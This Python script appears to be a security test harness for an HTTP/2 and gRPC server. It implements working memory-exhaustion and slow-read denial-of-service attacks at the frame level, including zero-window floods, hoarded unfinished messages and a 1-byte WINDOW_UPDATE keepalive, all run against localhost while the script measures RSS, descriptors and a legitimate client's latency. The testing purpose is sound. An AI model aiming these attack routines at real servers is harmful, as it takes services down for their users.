#!/usr/bin/env python3
"""The memory attacks of docs/security-cases.md, cases H2-21 and H2-23 to H2-25, against a running server, for h2-attacks.sh.

While an attack runs, a legitimate client makes one small request every 20 ms on a connection of its
own and times it; the server's RSS is sampled every 50 ms. Once the attack's sockets are closed, the
server gets 5 s to give its descriptors back. Prints one line:

    ATTACK: peak RSS +N MB, legitimate worst M ms over K requests, E errors, descriptors +D 5 s after,
            [C of its connections closed by the server by the end,] RSS within +64 MB T s after the end

Attacks (ATTACK argument):
  grpc-hoard       CONNS connections x 100 unary calls, each sending a 4 MiB message it never finishes,
                   as fast as the server's windows allow (grpc-echo)
  grpc-stream      one connection, SETTINGS_INITIAL_WINDOW_SIZE 0 (it never reads an echo), 10 bidi
                   /Stream calls sending 16 KiB messages as fast as the windows allow (grpc-echo)
  zero-window-echo CONNS connections with SETTINGS_INITIAL_WINDOW_SIZE 0, 100 POST /echo streams of
                   10 KB each (http2-hello)
  zero-window-keepalive
                   zero-window-echo's connections, each sent a PING and 1-byte WINDOW_UPDATEs (connection
                   and first stream) every 10 s, which keep no server from calling it stalled (http2-hello)

    h2_attacks.py PID PORT ATTACK [--conns N] [--seconds S] [--warmup]
"""
import argparse
import os
import socket
import struct
import sys
import threading
import time

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 0x0, 0x1, 0x3, 0x4, 0x6, 0x7, 0x8
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
INITIAL_WINDOW_SIZE = 0x4
MAX_FRAME = 16384


def frame(kind, flags, stream, payload=b""):
    # RFC 9113 §4.1: 24-bit length, 8-bit type, 8-bit flags, reserved bit and 31-bit stream id.
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def settings(pairs):
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", k, v) for k, v in pairs))


def rss_kb(pid):
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1])
    return 0


def fds(pid):
    return len(os.listdir(f"/proc/{pid}/fd"))


class Conn:
    """One h2c connection (prior knowledge) whose frames a reader thread parses."""

    def __init__(self, port, pairs=(), on_frame=None):
        self.sock = socket.create_connection(("127.0.0.1", port))
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.lock = threading.Lock()
        self.encoder = hpack.Encoder()
        self.decoder = hpack.Decoder()
        self.on_frame = on_frame
        self.closed = False
        self.send(PREFACE + settings(pairs))

    def send(self, data):
        with self.lock:
            self.sock.sendall(data)

    def headers(self, stream, fields, end):
        with self.lock:
            block = self.encoder.encode(fields)
            self.sock.sendall(frame(HEADERS, END_HEADERS | (END_STREAM if end else 0), stream, block))

    def read_frames(self):
        buf = b""
        try:
            while True:
                chunk = self.sock.recv(1 << 16)
                if not chunk:
                    break
                buf += chunk
                while len(buf) >= 9:
                    length = int.from_bytes(buf[:3], "big")
                    if len(buf) < 9 + length:
                        break
                    kind, flags = buf[3], buf[4]
                    stream = int.from_bytes(buf[5:9], "big") & 0x7FFFFFFF
                    payload = buf[9:9 + length]
                    buf = buf[9 + length:]
                    if kind == SETTINGS and not flags & ACK:
                        self.send(frame(SETTINGS, ACK, 0))
                    elif kind == PING and not flags & ACK:
                        self.send(frame(PING, ACK, 0, payload))
                    if kind == HEADERS:
                        payload = self.decoder.decode(payload)
                    if self.on_frame:
                        self.on_frame(kind, flags, stream, payload)
        except OSError:
            pass
        self.closed = True
        if self.on_frame:
            self.on_frame(None, 0, 0, b"")

    def close(self):
        try:
            self.sock.shutdown(socket.SHUT_RDWR)  # close() alone leaves it open while the reader thread waits in recv
        except OSError:
            pass
        try:
            self.sock.close()
        except OSError:
            pass


def grpc_request(path):
    return [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "localhost"),
            ("content-type", "application/grpc"), ("te", "trailers")]


class Legit:
    """A client that reads its answers: one request every 20 ms, timed."""

    def __init__(self, port, grpc):
        self.port, self.grpc = port, grpc
        self.latencies, self.errors, self.error_kinds = [], 0, {}
        self.stop = False
        self.thread = threading.Thread(target=self.run, daemon=True)

    def error(self, kind):
        self.errors += 1
        self.error_kinds[kind] = self.error_kinds.get(kind, 0) + 1

    def connect(self):
        self.done = threading.Event()
        self.result = None

        def on_frame(kind, flags, stream, payload):
            if kind is None:
                self.result = self.result or "closed"
                self.done.set()
            elif kind == GOAWAY:
                self.result = self.result or "goaway"
                self.done.set()
            elif kind == RST_STREAM and stream == self.stream:
                self.result = "reset"
                self.done.set()
            elif kind == DATA and payload:
                self.conn.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", len(payload)))
                               + frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", len(payload))))
            if kind == HEADERS and stream == self.stream:
                fields = dict(payload)
                if self.grpc and "grpc-status" in fields:
                    self.result = "ok" if fields["grpc-status"] == "0" else "grpc-status " + fields["grpc-status"]
                elif not self.grpc and fields.get(":status") not in (None, "200"):
                    self.result = "status " + fields[":status"]
            if stream == self.stream and kind in (HEADERS, DATA) and flags & END_STREAM:
                self.result = self.result or "ok"
                self.done.set()

        self.conn = Conn(self.port, on_frame=on_frame)
        self.stream = 1
        threading.Thread(target=self.conn.read_frames, daemon=True).start()

    def request(self):
        self.done.clear()
        self.result = None
        start = time.monotonic()
        if self.grpc:
            self.conn.headers(self.stream, grpc_request("/rill.echo.Echo/Unary"), False)
            self.conn.send(frame(DATA, END_STREAM, self.stream, b"\0" + struct.pack(">I", 10) + b"0123456789"))
        else:
            self.conn.headers(self.stream, [(":method", "GET"), (":scheme", "http"), (":path", "/"),
                                            (":authority", "localhost")], True)
        ok = self.done.wait(5)
        elapsed = time.monotonic() - start
        self.latencies.append(elapsed)
        self.stream += 2
        return "timeout" if not ok else self.result

    def run(self):
        self.connect()
        while not self.stop:
            outcome = self.request()
            if outcome != "ok":
                self.error(outcome)
                self.conn.close()
                self.connect()
            time.sleep(0.02)
        self.conn.close()


class SendWindows:
    """The server's flow-control windows, as an attacker's DATA may use them: the connection's and each stream's."""

    def __init__(self, conn):
        self.conn = conn
        self.streams = {}
        self.initial = 65535
        self.cv = threading.Condition()

    def on_frame(self, kind, flags, stream, payload):
        with self.cv:
            if kind == SETTINGS and not flags & ACK:
                for i in range(0, len(payload), 6):
                    key, value = struct.unpack(">HI", payload[i:i + 6])
                    if key == INITIAL_WINDOW_SIZE:
                        for s in self.streams:
                            self.streams[s] += value - self.initial
                        self.initial = value
            elif kind == WINDOW_UPDATE:
                increment = struct.unpack(">I", payload)[0] & 0x7FFFFFFF
                if stream == 0:
                    self.conn += increment
                elif stream in self.streams:
                    self.streams[stream] += increment
            elif kind == RST_STREAM or (kind == HEADERS and flags & END_STREAM):
                self.streams.pop(stream, None)
            self.cv.notify_all()


def grpc_hoard(port, conns, stop):
    """100 unary calls a connection, each a 4 MiB message never finished, sent as the windows allow."""
    opened = []
    for _ in range(conns):
        state = SendWindows(0)
        c = Conn(port, on_frame=state.on_frame)
        state.conn = 65535
        threading.Thread(target=c.read_frames, daemon=True).start()
        with state.cv:
            for i in range(100):
                sid = 1 + 2 * i
                state.streams[sid] = state.initial
        for sid in list(state.streams):
            c.headers(sid, grpc_request("/rill.echo.Echo/Unary"), False)
        opened.append((c, state))

    def pump(c, state):
        sent = {}
        prefix = b"\0" + struct.pack(">I", 4 << 20)
        chunk = b"x" * MAX_FRAME
        while not stop.is_set() and not c.closed:
            out = []
            with state.cv:
                for sid, window in list(state.streams.items()):
                    if state.conn <= 0:
                        break
                    done = sent.get(sid, 0)
                    left = (4 << 20) + 5 - done - 1  # never the last byte
                    n = min(window, state.conn, MAX_FRAME, left)
                    if n <= 0:
                        continue
                    body = (prefix + chunk)[done:done + n] if done < 5 else chunk[:n]
                    out.append(frame(DATA, 0, sid, body))
                    sent[sid] = done + n
                    state.streams[sid] -= n
                    state.conn -= n
                if not out:
                    state.cv.wait(0.2)
                    continue
            try:
                c.send(b"".join(out))
            except OSError:
                return

    threads = [threading.Thread(target=pump, args=o, daemon=True) for o in opened]
    for t in threads:
        t.start()
    return [c for c, _ in opened]


def grpc_stream(port, conns, stop):
    """Bidi /Stream calls that never read an echo (window 0), sending 16 KiB messages as the windows allow."""
    opened = []
    for _ in range(conns):
        state = SendWindows(65535)
        c = Conn(port, pairs=[(INITIAL_WINDOW_SIZE, 0)], on_frame=state.on_frame)
        threading.Thread(target=c.read_frames, daemon=True).start()
        with state.cv:
            for i in range(10):
                state.streams[1 + 2 * i] = state.initial
        for sid in list(state.streams):
            c.headers(sid, grpc_request("/rill.echo.Echo/Stream"), False)
        opened.append((c, state))

    message = b"\0" + struct.pack(">I", 16384 - 5) + b"y" * (16384 - 5)

    def pump(c, state):
        while not stop.is_set() and not c.closed:
            out = []
            with state.cv:
                for sid, window in list(state.streams.items()):
                    n = min(window, state.conn)
                    if n < len(message):
                        continue
                    out.append(frame(DATA, 0, sid, message))
                    state.streams[sid] -= len(message)
                    state.conn -= len(message)
                if not out:
                    state.cv.wait(0.2)
                    continue
            try:
                c.send(b"".join(out))
            except OSError:
                return

    for o in opened:
        threading.Thread(target=pump, args=o, daemon=True).start()
    return [c for c, _ in opened]


def zero_window_echo(port, conns, stop):
    """Connections that never open a window: 100 POST /echo streams of 10 KB each, never read."""
    opened = []
    body = b"z" * 10_000
    request = [(":method", "POST"), (":scheme", "http"), (":path", "/echo"), (":authority", "localhost")]
    for _ in range(conns):
        try:
            c = Conn(port, pairs=[(INITIAL_WINDOW_SIZE, 0)])
            out = [frame(SETTINGS, ACK, 0)]
            for i in range(100):
                sid = 1 + 2 * i
                out.append(frame(HEADERS, END_HEADERS, sid, c.encoder.encode(request)))
                out.append(frame(DATA, END_STREAM, sid, body))
            c.sock.setblocking(False)
            data = b"".join(out)
            deadline = time.monotonic() + 2
            while data and time.monotonic() < deadline:
                try:
                    data = data[c.sock.send(data):]
                except BlockingIOError:
                    time.sleep(0.005)
                except OSError:
                    break
            opened.append(c)
        except OSError:
            pass
    return opened


def zero_window_keepalive(port, conns, stop):
    """zero-window-echo's connections, each kept "alive" every 10 s by a PING and 1-byte WINDOW_UPDATEs on
    the connection and on its first stream, which let one byte of content out and ask for nothing else."""
    opened = zero_window_echo(port, conns, stop)
    nudge = frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) + frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 1))

    def keep_alive():
        while not stop.wait(10):
            for c in opened:
                try:
                    c.sock.sendall(nudge + frame(PING, 0, 0, b"keepaliv"))
                except OSError:
                    pass

    threading.Thread(target=keep_alive, daemon=True).start()
    return opened


def closed_by_server(c):
    """Whether the server has closed c, a connection nobody reads: reads what waits, non-blocking."""
    try:
        c.sock.setblocking(False)
        while True:
            if not c.sock.recv(1 << 16):
                return True
    except BlockingIOError:
        return False
    except OSError:
        return True


ATTACKS = {"grpc-hoard": grpc_hoard, "grpc-stream": grpc_stream, "zero-window-echo": zero_window_echo,
           "zero-window-keepalive": zero_window_keepalive}
UNREAD = {"zero-window-echo", "zero-window-keepalive"}  # attacks whose connections have no reader thread


def legit_main(port, grpc):
    """The legitimate client in a process of its own (the attack's threads must not delay it): runs
    until standard input closes, then prints its worst latency, request count and errors."""
    legit = Legit(port, grpc)
    legit.thread.start()
    time.sleep(1)  # its first requests warm the server's paths up
    legit.latencies.clear()
    print("ready", flush=True)
    sys.stdin.read()
    legit.stop = True
    legit.thread.join(6)
    worst = max(legit.latencies) * 1000 if legit.latencies else float("nan")
    kinds = ", ".join(f"{k} x{v}" for k, v in sorted(legit.error_kinds.items()))
    print(f"{worst:.0f} {len(legit.latencies)} {legit.errors} {kinds}", flush=True)


def legit_warmup(port):
    """40,000 POST /echo of 10 KB over 40 connections by h2load, one at a time on each (a server that
    returns a request's credit only once it has answered, as Netty's peer does, would otherwise stall with
    every connection window spent on unfinished bodies), then 5 s of rest; None without h2load."""
    import shutil
    import subprocess
    import tempfile
    if shutil.which("h2load") is None:
        return None
    with tempfile.NamedTemporaryFile() as body:
        body.write(os.urandom(10_000))
        body.flush()
        run = subprocess.run(["h2load", "-n", "40000", "-c", "40", "-m", "1", "-d", body.name,
                              f"http://127.0.0.1:{port}/echo"], capture_output=True, text=True, timeout=120)
    if "40000 succeeded" not in run.stdout:
        raise SystemExit("the legitimate warm-up failed:\n" + run.stdout + run.stderr)
    time.sleep(5)
    return "after 40,000 legitimate POSTs"


def attack_round(args, scale):
    """One attack at {@code scale} of its connections; returns the peak RSS in kB over the base, the descriptors
    over the base 5 s after, how many of its connections the server had closed by its end (None: not known), and
    the seconds after the end until RSS was within 64 MB of the base again (None: not within 30 s)."""
    base_rss, base_fds = rss_kb(args.pid), fds(args.pid)
    peak = base_rss
    stop = threading.Event()
    conns = ATTACKS[args.attack](args.port, max(1, int(args.conns * scale)), stop)
    end = time.monotonic() + args.seconds
    while time.monotonic() < end:
        peak = max(peak, rss_kb(args.pid))
        time.sleep(0.05)
    stop.set()
    fd_delta = None
    closed = sum(closed_by_server(c) for c in conns) if args.attack in UNREAD else None
    for c in conns:
        c.close()
    ended = time.monotonic()
    back = None  # seconds after the end until RSS was within 64 MB of the base (the bound: 30 s)
    while time.monotonic() < ended + 5 or back is None and time.monotonic() < ended + 30:
        rss = rss_kb(args.pid)
        peak = max(peak, rss)
        if back is None and rss - base_rss <= 64 * 1024:
            back = time.monotonic() - ended
        if time.monotonic() >= ended + 5 and fd_delta is None:
            fd_delta = fds(args.pid) - base_fds
        time.sleep(0.05)
    if fd_delta is None:
        fd_delta = fds(args.pid) - base_fds
    return peak - base_rss, fd_delta, closed, back


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("pid", type=int)
    parser.add_argument("port", type=int)
    parser.add_argument("attack", choices=sorted(ATTACKS) + ["legit-grpc", "legit-http"])
    parser.add_argument("--conns", type=int, default=1)
    parser.add_argument("--seconds", type=float, default=8)
    parser.add_argument("--warmup", action="store_true",
                        help="first serve legitimate traffic, not measured: 40,000 POST /echo of 10 KB on 40"
                             " connections by h2load (http2-hello), or, without h2load or against grpc-echo, a round"
                             " of the attack at a tenth of its connections (10 or more). The JIT's one-off"
                             " compilation and the heap and pool the first requests grow are then not counted as"
                             " the attack's cost, as on a server that has been serving")
    args = parser.parse_args()
    if args.attack.startswith("legit-"):
        return legit_main(args.port, args.attack == "legit-grpc")
    import subprocess
    legit = subprocess.Popen([sys.executable, __file__, str(args.pid), str(args.port),
                              "legit-grpc" if args.attack.startswith("grpc") else "legit-http"],
                             stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
    legit.stdout.readline()  # ready
    warm = None
    if args.warmup:
        warm = legit_warmup(args.port) if args.attack.startswith("zero-window") else None
        if warm is None and args.conns >= 10:
            attack_round(args, 0.1)
            warm = f"after {args.conns // 10} to warm up"
    rss, fd_delta, closed, back = attack_round(args, 1)
    legit.stdin.close()
    worst, requests, errors, *kinds = legit.stdout.readline().split(" ", 3) + [""]
    legit.wait(10)
    kinds = kinds[0].strip()
    print(f"{args.attack} x{args.conns}{f' ({warm})' if warm else ''}: peak RSS +{rss / 1024:.0f} MB,"
          f" legitimate worst {worst} ms over {requests} requests, {errors} errors"
          f"{' (' + kinds + ')' if kinds else ''}, descriptors {fd_delta:+d} 5 s after"
          f"{'' if closed is None else f', {closed} of its connections closed by the server by the end'}"
          + (", RSS still over +64 MB 30 s after the end" if back is None
             else f", RSS within +64 MB {back:.1f} s after the end"))


if __name__ == "__main__":
    sys.exit(main())
